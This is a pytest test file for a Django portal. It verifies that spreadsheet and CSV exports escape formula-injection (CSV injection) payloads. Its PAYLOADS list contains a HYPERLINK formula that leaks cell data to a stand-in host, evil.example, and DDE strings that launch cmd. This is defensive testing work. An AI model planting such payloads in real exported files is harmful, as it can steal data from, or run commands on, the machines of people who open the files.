"""Formula injection (CSV injection) is neutralised in every spreadsheet
the portal hands out: a text cell starting with = + - @ (or a tab or
carriage return) gets a leading apostrophe, so that no spreadsheet runs
it. One test per export, each with the same payloads."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from audit.services import audit_record
from dispatch.models import ProgressReport
from tasks.models import Task
from tests.conftest import fill
from tests.targets.test_pages import make_target

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
PAYLOAD_TEXT = ";".join(PAYLOADS)


def xlsx_cells(data: bytes) -> list[object]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [
        cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
    ]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    return [cell.value for cell in cells]


def csv_cells(data: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig")))
    return [value for row in rows for value in row]


def assert_escaped(values: list[object], payloads=PAYLOADS) -> None:
    texts = [value for value in values if isinstance(value, str)]
    live = [text for text in texts if text.startswith(FORMULA_STARTS)]
    assert live == []
    for payload in payloads:
        # The payload reached the file, behind the apostrophe.
        assert any(text.startswith("'" + payload[:6]) for text in texts), payload


def content(response) -> bytes:
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


@pytest.mark.django_db
def test_report_sheet_download_escapes_formulae(client, users, period):
    reporter = users["reporter"]
    reports = ProgressReport.objects.filter(
        period=period, department=reporter.department
    ).order_by("task__number")
    for report, payload in zip(reports, PAYLOADS, strict=False):
        fill(report, reporter, progress=payload, problems=payload)
    client.force_login(reporter)
    response = client.get(reverse("dispatch:sheet-download", args=[period.pk]))
    assert response.status_code == 200
    assert_escaped(xlsx_cells(content(response)))


@pytest.mark.django_db
def test_targets_export_escapes_formulae(client, users, policy):
    for number, payload in enumerate(PAYLOADS, start=1):
        make_target(policy, number, metric=payload, unit=payload[:10])
    client.force_login(users["reviewer"])
    response = client.get(reverse("targets:export"))
    assert response.status_code == 200
    assert_escaped(xlsx_cells(content(response)))


@pytest.fixture
def auditor_with_payload_rows(db, users):
    from accounts.roles import RoleName
    from accounts.services import user_create

    for payload in PAYLOADS:
        audit_record(
            action="import.annex",
            actor=users["sysadmin"],
            object_repr=payload,
            after={"file": payload},
        )
    auditor = user_create(
        username="auditor",
        password="Pass#word123",
        role=RoleName.AUDITOR,
        must_change_password=False,
    )
    return auditor


@pytest.mark.django_db
@pytest.mark.parametrize(("kind", "cells"), [("xlsx", xlsx_cells), ("csv", csv_cells)])
def test_audit_export_escapes_formulae(client, auditor_with_payload_rows, kind, cells):
    client.force_login(auditor_with_payload_rows)
    response = client.get(reverse("audit:event-export"), {"format": kind})
    assert response.status_code == 200
    assert_escaped(cells(content(response)))


def admin_export(client, kind: str) -> bytes:
    """The admin's export of the tasks (django-import-export) in ``kind``,
    every field selected."""
    url = reverse("admin:tasks_task_export")
    form = client.get(url).context["form"]
    choices = {label.lower(): value for value, label in form.fields["format"].choices}
    data = {"format": choices[kind], "resource": 0}
    data.update(
        {name: "on" for name in form.fields if name.startswith("taskresource_")}
    )
    response = client.post(url, data)
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Disposition"].startswith("attachment;")
    return content(response)


@pytest.mark.django_db
@pytest.mark.parametrize(("kind", "cells"), [("xlsx", xlsx_cells), ("csv", csv_cells)])
def test_admin_task_export_escapes_formulae(client, policy, users, kind, cells):
    for number, payload in enumerate(PAYLOADS, start=1):
        Task.objects.filter(policy=policy, number=number).update(requirement=payload)
    client.force_login(users["sysadmin"])
    assert_escaped(cells(admin_export(client, kind)))


@pytest.mark.django_db
def test_admin_offers_only_the_escaping_formats(client, policy, users):
    client.force_login(users["sysadmin"])
    form = client.get(reverse("admin:tasks_task_export")).context["form"]
    labels = sorted(label.lower() for _value, label in form.fields["format"].choices)
    assert labels == ["---", "csv", "xlsx"]
